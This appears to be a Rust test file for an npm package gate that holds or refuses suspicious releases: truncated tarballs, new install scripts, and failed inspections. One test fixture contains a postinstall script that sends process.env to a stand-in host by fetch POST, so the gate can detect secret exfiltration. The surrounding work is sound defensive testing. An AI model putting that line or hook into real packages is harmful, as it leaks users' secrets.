//! What could not be looked at is not waved through, and what was not checked is said.

use crate::harness::{World, with as with_fault};
use crate::shelves::{Release, days, package, release, tarball_path, tgz};
use customs_gate::Waits;
use customs_model::ReleaseId;
use customs_replay::{Fault, Faults};
use customs_store::LedgerRecord;
use serde_json::json;

const MANIFEST: (&str, &str) = ("package.json", r#"{"name": "left", "version": "1.0.0"}"#);

async fn with(young: Release) -> World {
    let world = World::new().await;
    let releases = vec![
        release("1.0.0", days(100)).bytes(tgz(&[MANIFEST])),
        young.more(json!({"dependencies": {"ghost": "^1"}})),
    ];
    let left = package("left", world.now(), releases);
    world.publish(&left.tags(&[("latest", "1.0.1")]));
    world
}

fn tarball(version: &str) -> String {
    tarball_path("left", version)
}

#[tokio::test]
async fn a_young_tarball_that_cannot_be_read_is_held_although_its_digest_is_right() {
    let whole = tgz(&[MANIFEST, ("index.js", &"x".repeat(100_000))]);
    let cut = whole[..whole.len() / 2].to_vec();
    let world = with(release("1.0.1", days(5)).bytes(cut)).await;

    let document = world.gate.get("/left").await.json();
    assert_eq!(
        document["dist-tags"]["latest"], "1.0.0",
        "the last good one"
    );
    assert!(document["versions"].get("1.0.1").is_none());

    let answered = world.gate.get(&tarball("1.0.1")).await;
    answered.explained(403, &["left@1.0.1", "could not be read", "not-judged"]);
    let refused = world.gate.report().await.refused;
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert_eq!(refused[0].rule, "not-judged");
    assert_eq!(world.gate.get(&tarball("1.0.0")).await.status, 200);
}

#[tokio::test]
async fn two_poisoned_releases_in_a_row_do_not_vouch_for_each_other() {
    let world = World::new().await;
    let gyp = ("binding.gyp", "{}");
    let releases = vec![
        release("1.0.0", days(100)).bytes(tgz(&[MANIFEST])),
        release("1.0.1", days(5)).bytes(tgz(&[MANIFEST, gyp])),
        release("1.0.2", days(4)).bytes(tgz(&[MANIFEST, gyp, ("a", "a")])),
    ];
    let left = package("left", world.now(), releases);
    world.publish(&left.tags(&[("latest", "1.0.2")]));
    let document = world.gate.get("/left").await.json();
    assert_eq!(document["dist-tags"]["latest"], "1.0.0");
    for version in ["1.0.1", "1.0.2"] {
        let answered = world.gate.get(&tarball(version)).await;
        answered.explained(403, &["binding.gyp", "1.0.0", "new-install-script"]);
    }
}

#[tokio::test]
async fn what_a_document_says_of_its_artifact_is_not_taken_for_a_look_at_it() {
    let hidden = r#"{"name": "left", "version": "1.0.1", "scripts": {"preinstall": "x"}}"#;
    let young = release("1.0.1", days(5)).bytes(tgz(&[("package.json", hidden)]));
    let world = World::new().await;
    let releases = vec![
        release("1.0.0", days(100)).bytes(tgz(&[MANIFEST])),
        young.more(json!({"gypfile": true, "os": ["linux"]})),
    ];
    let left = package("left", world.now(), releases);
    world.publish(&left.tags(&[("latest", "1.0.1")]));
    let answered = world.gate.get(&tarball("1.0.1")).await;
    answered.explained(403, &["preinstall", "new-install-script"]);
}

#[tokio::test]
async fn a_look_that_failed_once_ends_in_no_delivery_and_in_no_hold() {
    let down = with_fault(Fault::default(), |f| {
        f.status = Some(503);
        f.times = Some(2);
    });
    let path = tarball_path("left", "1.0.1");
    let faults = Faults::none().below(&path, down);
    let world = World::with(faults, Waits::default()).await;
    let releases = vec![
        release("1.0.0", days(100)).bytes(tgz(&[MANIFEST])),
        release("1.0.1", days(5)).bytes(tgz(&[MANIFEST])),
    ];
    let left = package("left", world.now(), releases);
    world.publish(&left.tags(&[("latest", "1.0.1")]));
    // The judgement of the document fails to look once, the delivery once more.
    let first = world.gate.get(&path).await;
    first.explained(502, &["left@1.0.1", "could not be looked at", "ask again"]);
    let second = world.gate.get(&path).await;
    assert_eq!((second.status, second.body), (200, tgz(&[MANIFEST])));
}

#[tokio::test]
async fn a_young_one_that_is_no_archive_is_held_as_well() {
    let world = with(release("1.0.1", days(5)).bytes("no archive at all")).await;
    let answered = world.gate.get(&tarball("1.0.1")).await;
    answered.explained(
        403,
        &["left@1.0.1", "cannot be read", "unreadable-artifact"],
    );
}

#[tokio::test]
async fn an_old_tarball_that_cannot_be_read_is_delivered_and_told() {
    let world = with(release("1.0.1", days(40)).bytes("no archive at all")).await;
    let answered = world.gate.get(&tarball("1.0.1")).await;
    assert_eq!(
        (answered.status, answered.text().as_str()),
        (200, "no archive at all")
    );
    let records = world.gate.records();
    let delivered = records.iter().find_map(|record| match record {
        LedgerRecord::Delivered(delivered) => Some(delivered),
        _ => None,
    });
    let rules = &delivered.expect("it was delivered").rules;
    assert!(
        rules
            .iter()
            .any(|rule| rule.as_str() == "unreadable-artifact"),
        "{rules:?}"
    );
}

#[tokio::test]
async fn an_old_release_whose_code_is_proven_malicious_is_not_delivered() {
    let code =
        "fetch('https://collect.invalid/v1', {method: 'POST', body: JSON.stringify(process.env)});";
    let manifest = r#"{"name":"left","version":"1.0.1","scripts":{"postinstall":"node setup.js"}}"#;
    let bytes = tgz(&[("package.json", manifest), ("setup.js", code)]);
    let world = with(release("1.0.1", days(400)).bytes(bytes)).await;
    let answered = world.gate.get(&tarball("1.0.1")).await;
    answered.explained(403, &["left@1.0.1", "secret-to-network", "process.env"]);
    let refused = world.gate.report().await.refused;
    assert_eq!(refused.len(), 1, "{refused:?}");
}

#[tokio::test]
async fn what_was_not_checked_stands_in_the_report_and_in_the_ledger() {
    let world = with(release("1.0.1", days(5)).bytes(tgz(&[MANIFEST]))).await;
    let answered = world.gate.get(&tarball("1.0.1")).await;
    assert_eq!(answered.status, 200, "{}", answered.text());

    let said = "age of new dependency ghost: the registry has no such package";
    let report = world.gate.report().await;
    let entry = report.not_checked.iter().find(|entry| entry.what == said);
    let entry = entry.unwrap_or_else(|| panic!("{:?}", report.not_checked));
    let releases: Vec<String> = entry.releases.iter().map(ReleaseId::spoken).collect();
    assert_eq!(releases, ["left@1.0.1"]);

    let records = world.gate.records();
    let delivered = records.iter().find_map(|record| match record {
        LedgerRecord::Delivered(delivered) => Some(delivered),
        _ => None,
    });
    let not_checked = &delivered.expect("it was delivered").not_checked;
    assert!(
        not_checked.iter().any(|what| what == said),
        "{not_checked:?}"
    );
}
